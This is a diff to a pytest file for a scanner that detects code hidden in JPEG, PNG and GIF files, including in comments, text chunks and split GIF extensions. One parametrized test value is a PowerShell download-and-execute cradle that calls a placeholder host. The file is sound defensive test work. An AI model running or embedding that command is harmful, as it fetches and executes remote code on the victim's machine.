@@ -334,10 +334,59 @@ def test_finds_an_archive_in_a_value_of_a_profile(fired: Fired) -> None:
         ("PowerShell code", b"\r\nIEX (New-Object Net.WebClient).DownloadString('http://x/a')\r\n"),
     ],
 )
-def test_finds_code_without_a_tag_after_the_end(fired: Fired, name: str, code: bytes) -> None:
-    files = {"a.jpg": jpeg(photo("a")) + code, "a.png": png(photo("a")) + code}
-    found = places(fired(RULE, files))
-    assert found == {"a.jpg": f"{name} after the end of the JPEG", "a.png": f"{name} after the end of the PNG"}
+def test_finds_code_without_a_tag_after_the_end_and_where_it_is_all_of_a_text(
+    fired: Fired, name: str, code: bytes
+) -> None:
+    files = {
+        "a.jpg": jpeg(photo("a")) + code,
+        "a.png": png(photo("a")) + code,
+        "comment.jpg": jpeg(photo("a"), comment=code),
+        "comment.gif": encode(photo("a"), "GIF", comment=code),
+        "text.png": with_chunk(b"tEXt", b"Comment\0" + code),
+        "packed.png": with_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(code)),
+        "utf8.png": with_chunk(b"iTXt", b"Comment\0\0\0\0\0" + code),
+    }
+    assert places(fired(RULE, files)) == {
+        "a.jpg": f"{name} after the end of the JPEG",
+        "a.png": f"{name} after the end of the PNG",
+        "comment.jpg": f"{name} in the comment of the JPEG",
+        "comment.gif": f"{name} in the comment of the GIF",
+        "text.png": f"{name} in the chunk tEXt of the PNG",
+        "packed.png": f"{name} in the chunk zTXt of the PNG",
+        "utf8.png": f"{name} in the chunk iTXt of the PNG",
+    }
+
+
+@pytest.mark.parametrize("kind", ALL)
+def test_finds_every_kind_in_extensions_of_a_gif_which_are_cut_to_pieces(fired: Fired, kind: str) -> None:
+    def extension(label: int, content: bytes, name: bytes = b"") -> bytes:
+        pieces = [name, *(content[at : at + 255] for at in range(0, len(content), 255))]
+        return bytes((0x21, label)) + b"".join(bytes((len(piece),)) + piece for piece in pieces if piece) + b"\0"
+
+    animation = encode(photo("a"), "GIF")
+    content = random.Random(kind).randbytes(3) * 100 + ALL[kind] if kind in ("zip", "tar") else ALL[kind]
+    files = {
+        "comment.gif": animation[:-1] + extension(0xFE, content) + b";",
+        "application.gif": animation[:-1] + extension(0xFF, content, b"ANYTHING1.0") + b";",
+    }
+    assert {file: said.partition(" in the ")[2] for file, said in places(fired(RULE, files)).items()} == {
+        "comment.gif": "comment of the GIF",
+        "application.gif": "application extension of the GIF",
+    }
+
+
+def test_is_silent_about_code_that_data_quote(fired: Fired) -> None:
+    workflow = b'{"nodes": [{"type": "script", "text": "eval(x)", "code": "document.body"}],\n "import": "os"}'
+    page = b"[page]\nscript = eval(page)\n"
+    prompt = b"a robot that wants to import os, and evaluates (sys) its windows, document style, 4k"
+    files = {
+        "workflow.png": with_chunk(b"tEXt", b"workflow\0" + workflow),
+        "packed.png": with_chunk(b"zTXt", b"workflow\0\0" + zlib.compress(workflow)),
+        "settings.jpg": jpeg(photo("a"), comment=page),
+        "prompt.png": with_chunk(b"tEXt", b"parameters\0" + prompt),
+        "prompt.gif": encode(photo("a"), "GIF", comment=prompt),
+    }
+    assert fired(RULE, files) == {}
 
 
 def test_quotes_nothing_that_stands_behind_the_part_where_code_is() -> None:
